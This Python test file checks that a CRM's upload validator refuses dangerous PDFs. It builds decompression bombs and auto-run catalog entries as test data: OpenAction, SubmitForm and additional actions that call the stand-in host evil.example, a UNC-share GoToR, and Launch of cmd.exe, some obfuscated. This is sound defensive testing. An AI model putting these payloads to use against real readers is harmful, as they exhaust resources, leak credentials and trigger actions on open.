"""S30 and S36: a PDF that costs minutes to look at, or that does something by itself when it is opened."""

from __future__ import annotations

import time
import zlib

import pikepdf
import pytest

from crm.files.intake import check
from tests.files import samples
from tests.files.samples import refused

MEGABYTE = zlib.compress(b"a" * 2**20, 9)
CARRIED = b"1 0 obj<</Type/EmbeddedFile/Filter/FlateDecode>>stream\n%s\nendstream\n"


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n" + body + b"\nstartxref\n0\n%%EOF\n"


def packed(body: bytes) -> bytes:
    """The only object of a stream of objects, with the number 5."""
    held = zlib.compress(b"5 0 " + body, 9)
    return b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n%s\nendstream" % held


def test_s36_what_a_pdf_packs_counts_towards_one_sum() -> None:
    begun = time.process_time()
    assert "far more than it should" in refused(pdf(CARRIED % MEGABYTE * 400))
    assert "more than 16 files" in refused(pdf(CARRIED % zlib.compress(b"a") * 400))
    assert "more parts than can be looked at" in refused(pdf(b"stream\n" * 1_000_000))
    assert "cannot be looked at" in refused(pdf(b"#41" * 3_000_000))
    assert time.process_time() - begun < 10
    assert check(pdf(CARRIED % MEGABYTE * 4), "a.pdf")


def test_s30_no_part_of_a_pdf_hides_behind_the_bound() -> None:
    assert "far more than it should" in refused(pdf(packed(b" " * 40_000_000 + b"/JavaScript")))
    long = zlib.compress(b"a" * 2**20 + b"\x00MZ", 9)
    assert "far more than it should" in refused(pdf(CARRIED % long))


STARTING = [
    b"/OpenAction<</S/URI/URI(http://evil.example/)>>",
    b"/OpenAction %c\n<</S/URI/URI(http://evil.example/)>>",
    b"/Open#41ction<</S/URI/URI(http://evil.example/)>>",
    b"/OpenAction<</S/GoTo/D[0/Fit]/Next<</S/URI/URI(http://evil.example/)>>>>",
    b"/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/D[0/Fit]>>",
    b"/A<</S/GoToE/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)>>",
    b"/OpenAction<</S/Launch/F(cmd.exe)>>",
    b"/OpenAction<</S/SubmitForm/F(http://evil.example/)>>",
    b"/AcroForm<</Fields[]/XFA 2 0 R>>",
    b"/AcroForm<</Fields[]/XFA[(template)2 0 R]>>",
    b"/AA<</O<</S/URI/URI(http://evil.example/)>>>>",
    b"/AA 7 0 R",
]


@pytest.mark.parametrize("entry", STARTING)
def test_s30_a_pdf_does_nothing_by_itself(entry: bytes) -> None:
    catalog = b"<</Type/Catalog" + entry + b">>"
    assert "a new PDF" in refused(pdf(b"1 0 obj" + catalog + b"endobj"))
    assert "a new PDF" in refused(pdf(packed(catalog)))


@pytest.mark.parametrize("number", [5, 6])
def test_s30_what_a_pdf_does_first_may_stand_elsewhere(number: int) -> None:
    catalog = b"1 0 obj<</Type/Catalog/OpenAction %d 0 R>>endobj\n" % number
    action = b"<</S/URI/URI(http://evil.example/)>>"
    whole = packed(action) if number == 5 else b"6 0 obj" + action + b"endobj"
    assert "by itself" in refused(pdf(catalog + whole))
    assert "by itself" in refused(pdf(catalog + whole + b"\n%d 0 obj[3 0 R /Fit]endobj" % number))
    torn = b"\n6 0 obj[3 0 R /Fit]endobj\n6%c\n0 obj" + action
    assert "by itself" in refused(pdf(catalog.replace(b"5 0 R", b"6 0 R") + torn))
    assert "by itself" in refused(pdf(catalog))


def test_s30_a_pdf_opens_at_a_page_and_has_links() -> None:
    link = b"\n3 0 obj<</Subtype/Link/A<</S/URI/URI(https://www.opcw.org/)>>>>endobj"
    turns = b"<< /Type /Action /S /GoTo /D [3 0 R /XYZ null null 0] >>"
    for opening in (b"[3 0 R /Fit]", turns, b"<</S/GoTo/D(a.1)>>"):
        assert check(pdf(b"1 0 obj<</OpenAction " + opening + b">>endobj" + link), "a.pdf")
        assert check(pdf(b"1 0 obj<</OpenAction 5 0 R>>endobj\n5 0 obj\n" + opening + b"\nendobj" + link), "a.pdf")
        assert check(pdf(b"1 0 obj<</OpenAction 5 0 R>>endobj\n" + packed(opening) + link), "a.pdf")


@pytest.mark.parametrize("modes", [False, True])
def test_s30_the_same_as_a_library_writes_it(modes: bool) -> None:
    def turn(made: pikepdf.Pdf) -> None:
        goal = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])
        made.Root.OpenAction = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=goal))

    def call(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://evil.example/"))
        )

    assert check(samples.pdf(packed=modes, prepare=turn), "a.pdf")
    assert "by itself" in refused(samples.pdf(packed=modes, prepare=call))
